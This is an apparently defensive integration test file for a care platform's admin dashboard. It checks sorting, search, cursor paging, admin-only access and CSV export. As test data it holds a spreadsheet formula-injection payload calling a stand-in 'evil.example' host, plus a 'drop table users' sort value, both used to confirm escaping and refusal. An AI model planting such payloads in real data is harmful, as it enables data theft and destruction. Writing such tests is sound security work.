import { eq, inArray } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_SORT_MESSAGES, VERIFICATION_STATUS_WORDS } from '@contracts/admin';
import { carerProfiles, users } from '../../src/server/db/schema';
import {
  admin as makeAdmin,
  carer as makeCarer,
  customer,
  uncheckedCarer,
} from '../support/messaging-fixtures';
import { parseCsvStrict } from '../support/line-formats';
import { createTestApp, type TestApp } from '../support/test-app';
import { submitValidChecks } from '../support/verification-fixtures';

/*
 * The customer and carer tables of the admin dashboard: sorted and searched by the server (the
 * lists are paged), and exported as CSV with the same search and sort, every match, escaped.
 */

let t: TestApp;
let adminCookie: string;
let customerCookie: string;
let carerCookie: string;

beforeAll(async () => {
  t = await createTestApp();
  adminCookie = (await makeAdmin(t)).cookie;
  customerCookie = (await customer(t, 'none')).cookie;
  carerCookie = (await makeCarer(t)).cookie;
});
afterAll(() => t.close());

const db = () => t.database.db;
const get = (url: string, cookie = adminCookie) => t.injectAs(cookie, { method: 'GET', url });

type Listed = { id: string; firstName: string | null; email: string | null };
async function list(url: string) {
  const response = await get(url);
  expect(response.statusCode, response.body).toBe(200);
  return {
    items: response.json<Listed[]>(),
    total: Number(response.headers['x-total-count']),
    next: response.headers['x-next-cursor'] as string | undefined,
  };
}
/** Every page, following the cursors: the ids in the order the pages gave them. */
async function everyId(base: string): Promise<string[]> {
  const ids: string[] = [];
  let next: string | undefined;
  do {
    const page = await list(next ? `${base}&cursor=${next}` : base);
    ids.push(...page.items.map((item) => item.id));
    next = page.next;
  } while (next);
  return ids;
}

const tagOf = (prefix: string) => `${prefix}${Date.now().toString(36)}`;

/** Customers with the given names and emails (set directly: the sign-up form would refuse some). */
async function customersNamed(
  people: Array<{ firstName: string | null; lastName: string | null; email: string }>,
): Promise<string[]> {
  const ids: string[] = [];
  for (const person of people) {
    const made = await customer(t, 'none');
    await db().update(users).set(person).where(eq(users.id, made.user.id));
    ids.push(made.user.id);
  }
  return ids;
}

describe('sorting and searching the customer table', () => {
  it('sorts by name, email, joined date and plan, each way, across pages, ties by id', async () => {
    const tag = tagOf('sorttag');
    const [bravo, alpha, charlie, alphaTwin] = await customersNamed([
      { firstName: 'Bravo', lastName: tag, email: `c-${tag}@example.org` },
      { firstName: 'alpha', lastName: tag, email: `d-${tag}@example.org` },
      { firstName: 'Charlie', lastName: tag, email: `A-${tag}@example.org` },
      { firstName: 'Alpha', lastName: tag, email: `b-${tag}@example.org` },
    ]);
    // Join dates out of name order; the two Alphas tie on name (any case), so the id decides.
    const joined = [
      '2026-03-02T09:00:00Z',
      '2026-03-04T09:00:00Z',
      '2026-03-01T09:00:00Z',
      '2026-03-03T09:00:00Z',
    ];
    for (const [index, id] of [bravo!, alpha!, charlie!, alphaTwin!].entries()) {
      await db()
        .update(users)
        .set({ createdAt: new Date(joined[index]!) })
        .where(eq(users.id, id));
    }
    const alphas = [alpha!, alphaTwin!].sort();

    for (const base of ['/api/admin/users', '/api/test/users']) {
      const sorted = (query: string) => everyId(`${base}?q=${tag}&limit=1&${query}`);
      expect(await sorted('sort=name')).toEqual([...alphas, bravo, charlie]);
      expect(await sorted('sort=name&order=asc')).toEqual([...alphas, bravo, charlie]);
      expect(await sorted('sort=name&order=desc')).toEqual([charlie, bravo, ...alphas.toReversed()]);
      expect(await sorted('sort=email')).toEqual([charlie, alphaTwin, bravo, alpha]);
      expect(await sorted('sort=email&order=desc')).toEqual([alpha, bravo, alphaTwin, charlie]);
      // Joined: newest first unless asked.
      expect(await sorted('sort=joined')).toEqual([alpha, alphaTwin, bravo, charlie]);
      expect(await sorted('')).toEqual([alpha, alphaTwin, bravo, charlie]);
      expect(await sorted('sort=joined&order=asc')).toEqual([charlie, bravo, alphaTwin, alpha]);
    }

    // Plan: active first, then expired, then none.
    const expiredId = charlie!;
    const activeId = bravo!;
    await db()
      .update(users)
      .set({
        subscriptionStatus: 'active',
        subscriptionType: 'monthly',
        subscriptionExpiresAt: new Date('2020-01-01'),
      })
      .where(eq(users.id, expiredId));
    await db()
      .update(users)
      .set({
        subscriptionStatus: 'active',
        subscriptionType: 'annual',
        subscriptionExpiresAt: new Date('2099-01-01'),
      })
      .where(eq(users.id, activeId));
    const byPlan = await everyId(`/api/admin/users?q=${tag}&limit=2&sort=plan`);
    expect(byPlan.slice(0, 2)).toEqual([activeId, expiredId]);
    expect(new Set(byPlan.slice(2))).toEqual(new Set(alphas));
    const byPlanDown = await everyId(`/api/admin/users?q=${tag}&limit=2&sort=plan&order=desc`);
    expect(byPlanDown.slice(2)).toEqual([expiredId, activeId]);
  });

  it('searches by name and by email with the sort applied', async () => {
    const tag = tagOf('findme');
    const [zed, amy] = await customersNamed([
      { firstName: 'Zed', lastName: `Searcher${tag}`, email: `zed.${tag}@example.org` },
      { firstName: 'Amy', lastName: `Searcher${tag}`, email: `amy.${tag}@example.org` },
    ]);
    const byName = await list(`/api/admin/users?q=${encodeURIComponent(`searcher${tag}`)}&sort=name`);
    expect(byName.items.map((item) => item.id)).toEqual([amy, zed]);
    expect(byName.total).toBe(2);
    const byEmail = await list(
      `/api/admin/users?q=${encodeURIComponent(`ZED.${tag.toUpperCase()}`)}&sort=email`,
    );
    expect(byEmail.items.map((item) => item.id)).toEqual([zed]);
  });

  it.each([
    ['sort=password', 'sort'],
    ['sort=created_at', 'sort'],
    ['sort=name&order=sideways', 'order'],
    ['sort=name;drop table users', 'sort'],
  ])('refuses ?%s with 400 on %s: only the listed keys sort', async (query, field) => {
    for (const url of ['/api/admin/users', '/api/admin/users/csv']) {
      const response = await get(`${url}?${query}`);
      expect(response.statusCode, `${url}?${query}`).toBe(400);
      expect(response.json().fieldErrors).toHaveProperty(field);
    }
    const carers = await get(`/api/admin/carers?sort=plan`);
    expect(carers.statusCode).toBe(400);
    expect(carers.json().fieldErrors.sort).toBe(ADMIN_SORT_MESSAGES.sortInvalid);
  });

  it('refuses a cursor made for another sort, or a forged one, with 400', async () => {
    const tag = tagOf('cursortag');
    await customersNamed([
      { firstName: 'Ann', lastName: tag, email: `ann.${tag}@example.org` },
      { firstName: 'Bob', lastName: tag, email: `bob.${tag}@example.org` },
    ]);
    const byName = await list(`/api/admin/users?q=${tag}&limit=1&sort=name`);
    const newest = await list(`/api/admin/users?q=${tag}&limit=1`);
    for (const url of [
      `/api/admin/users?q=${tag}&limit=1&sort=email&cursor=${byName.next}`,
      `/api/admin/users?q=${tag}&limit=1&sort=name&order=desc&cursor=${byName.next}`,
      `/api/admin/users?q=${tag}&limit=1&sort=name&cursor=${newest.next}`,
      `/api/admin/users?q=${tag}&limit=1&cursor=${byName.next}`,
      `/api/admin/users?sort=joined&order=asc&cursor=${Buffer.from(JSON.stringify(['not a time', '00000000-0000-4000-8000-000000000000', 'joined.asc'])).toString('base64url')}`,
    ]) {
      const response = await get(url);
      expect(response.statusCode, url).toBe(400);
      expect(response.json().fieldErrors).toHaveProperty('cursor');
    }
  });
});

describe('the CSV export', () => {
  it('answers admins only: 401 signed out, 403 a customer or a carer', async () => {
    for (const url of ['/api/admin/users/csv', '/api/admin/carers/csv']) {
      expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(401);
      expect((await get(url, customerCookie)).statusCode).toBe(403);
      expect((await get(url, carerCookie)).statusCode).toBe(403);
      expect((await get(url)).statusCode).toBe(200);
    }
  });

  it('exports every customer the search finds, in the sort asked, with formulas and line breaks made harmless', async () => {
    const tag = tagOf('csvtag');
    const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    const [plain] = await customersNamed([
      { firstName: 'Cara', lastName: `Plain${tag}`, email: `cara.${tag}@example.org` },
      { firstName: formula, lastName: `Smith${tag}`, email: `eve.${tag}@example.org` },
      { firstName: 'Comma, "Quote"', lastName: `Line\r\nBreak${tag}`, email: `@sum.${tag}@example.org` },
    ]);
    await db()
      .update(users)
      .set({
        subscriptionStatus: 'active',
        subscriptionType: 'monthly',
        subscriptionExpiresAt: new Date('2099-06-30T12:00:00Z'),
      })
      .where(eq(users.id, plain!));
    const response = await get(`/api/admin/users/csv?q=${tag}&sort=email&order=asc`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="carematch-customers.csv"');
    expect(response.headers['cache-control']).toBe('no-store');

    const rows = parseCsvStrict(response.body);
    expect(rows[0]).toEqual(['Name', 'Email', 'Joined', 'Plan', 'Price', 'Expires', 'Billing', 'Suspended']);
    expect(rows.slice(1).every((row) => row.length === rows[0]!.length)).toBe(true);
    // Sorted by email: '@sum…' < 'cara…' < 'eve…'; the email starting with @ is guarded too.
    expect(rows.slice(1).map((row) => row[1])).toEqual([
      `'@sum.${tag}@example.org`,
      `cara.${tag}@example.org`,
      `eve.${tag}@example.org`,
    ]);
    const [awkwardRow, plainRow, injectedRow] = rows.slice(1);
    expect(awkwardRow![0]).toBe(`Comma, "Quote" Line\nBreak${tag}`);
    expect(injectedRow![0]).toBe(`'${formula} Smith${tag}`);
    expect(plainRow).toEqual([
      `Cara Plain${tag}`,
      `cara.${tag}@example.org`,
      expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
      'Active',
      '£10/month',
      '2099-06-30',
      '',
      'No',
    ]);
    // No cell of the file starts a formula, whatever was stored.
    expect(rows.flat().some((cell) => /^[=+\-@]/.test(cell))).toBe(false);
    // The raw text: the formula's cell is quoted, its quotes doubled.
    expect(response.body).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"") Smith${tag}"`);

    // Descending, and nothing but the search's matches.
    const down = parseCsvStrict((await get(`/api/admin/users/csv?q=${tag}&sort=email&order=desc`)).body);
    expect(down.slice(1).map((row) => row[1])).toEqual([
      `eve.${tag}@example.org`,
      `cara.${tag}@example.org`,
      `'@sum.${tag}@example.org`,
    ]);
  });

  it('exports every match, more than one page of the export’s own reading', async () => {
    const tag = tagOf('bulk');
    const made = await customer(t, 'none', { firstName: 'Bulk', lastName: tag });
    // 600 rows with the tag: the export reads in pages of 500.
    const [row] = await db().select().from(users).where(eq(users.id, made.user.id));
    await db()
      .insert(users)
      .values(
        Array.from({ length: 599 }, (_, index) => ({
          email: `bulk${index}.${tag}@example.org`,
          firstName: 'Bulk',
          lastName: `${tag}${String(index).padStart(3, '0')}`,
          role: row!.role,
        })),
      );
    const rows = parseCsvStrict((await get(`/api/admin/users/csv?q=${tag}&sort=name`)).body);
    expect(rows.length).toBe(601);
    const names = rows.slice(1).map((r) => r[0]!);
    expect(new Set(names).size).toBe(600);
    expect(names).toEqual(names.toSorted((a, b) => (a.toLowerCase() < b.toLowerCase() ? -1 : 1)));
  });

  it('exports carers with their verification in words, sorted and searched', async () => {
    const tag = tagOf('carercsv');
    const pending = await uncheckedCarer(t, { firstName: 'Ann', lastName: `Pending${tag}` });
    await submitValidChecks(t, pending.cookie);
    const none = await uncheckedCarer(t, { firstName: '+Zoe', lastName: `None${tag}` });
    const mid = await uncheckedCarer(t, { firstName: 'Mo', lastName: `Mid${tag}` });
    await db()
      .update(carerProfiles)
      .set({ firstName: '-Mo' })
      .where(inArray(carerProfiles.id, [mid.carerId]));

    const ids = await everyId(`/api/admin/carers?q=${tag}&limit=1&sort=name`);
    expect(ids).toEqual([none.carerId, mid.carerId, pending.carerId]);
    const byVerification = await everyId(`/api/admin/carers?q=${tag}&limit=1&sort=verification&order=desc`);
    expect(byVerification[0]).toBe(pending.carerId);

    const response = await get(`/api/admin/carers/csv?q=${tag}&sort=name&order=desc`);
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-disposition']).toBe('attachment; filename="carematch-carers.csv"');
    const rows = parseCsvStrict(response.body);
    expect(rows[0]).toEqual([
      'Name',
      'Email',
      'Joined',
      'Specialisation',
      'Location',
      'Rate min (£/hour)',
      'Rate max (£/hour)',
      'Verified badge',
      'Verification',
      'In search',
      'Suspended',
    ]);
    expect(rows.slice(1).map((row) => [row[0], row[1], row[8]])).toEqual([
      [`Ann Pending${tag}`, pending.user.email, VERIFICATION_STATUS_WORDS.pending],
      [`'-Mo Mid${tag}`, mid.user.email, VERIFICATION_STATUS_WORDS.none],
      [`'+Zoe None${tag}`, none.user.email, VERIFICATION_STATUS_WORDS.none],
    ]);
  });
});
